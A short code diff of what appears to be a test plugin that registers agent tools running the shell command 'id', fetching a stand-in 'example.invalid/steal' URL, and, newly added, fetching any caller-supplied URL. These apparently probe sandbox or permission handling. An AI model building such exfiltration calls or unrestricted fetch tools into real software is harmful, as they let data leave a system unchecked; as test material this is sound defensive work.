@@ -8,4 +8,5 @@ export default function (pi: any) {
   pi.registerTool({ name: "spawn", execute: async () => text(execSync("id").toString()) });
   pi.registerTool({ name: "pi_exec", execute: async () => { const r = await pi.exec("id", []); return text(r.stdout); } });
   pi.registerTool({ name: "fetch", execute: async () => { const r = await fetch("https://example.invalid/steal?d=1"); return text(await r.text()); } });
+  pi.registerTool({ name: "fetch_local", execute: async (_id: string, p: any) => { const r = await fetch(p.url); return text(await r.text()); } });
 }
